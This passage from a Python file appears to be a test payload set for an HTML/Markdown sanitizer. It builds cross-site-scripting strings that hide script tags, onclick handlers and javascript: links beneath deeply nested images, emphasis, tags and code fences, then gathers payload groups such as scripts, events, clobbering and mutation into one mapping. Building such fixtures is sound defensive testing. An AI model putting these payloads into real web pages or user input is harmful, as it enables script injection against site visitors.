    "deep images": "![" * 100 + "x" + f"]({EVIL}/deep)" * 20,
    "deep emphasis": "*_" * 150 + f"<b onclick={DO}>x" + "_*" * 150,
    "deep tags": "<div>" * 200 + f"<script>{RUN}</script>",
    "deep fences": "".join(f"{'`' * n}\n" for n in range(3, 30)) + f"<script>{RUN}</script>",
    "many references": "".join(f"[r{n}]: javascript:{RUN}\n" for n in range(30))
    + "[r1] [r2] ![r3]",
}

GROUPS = (
    *(SCRIPTS, EVENTS, LINKS, BREAKS, NESTS, DRAWINGS, STYLES, FRAMES, CLOBBERS, MUTATIONS),
    *(IMAGES, MATHEMATICS, LETTERS, DEPTHS),
)
#: Those that are HTML, or try to become it.
HTML = SCRIPTS | EVENTS | DRAWINGS | STYLES | FRAMES | CLOBBERS | MUTATIONS | IMAGES | LETTERS
PAYLOADS: dict[str, str] = {name: text for group in GROUPS for name, text in group.items()}
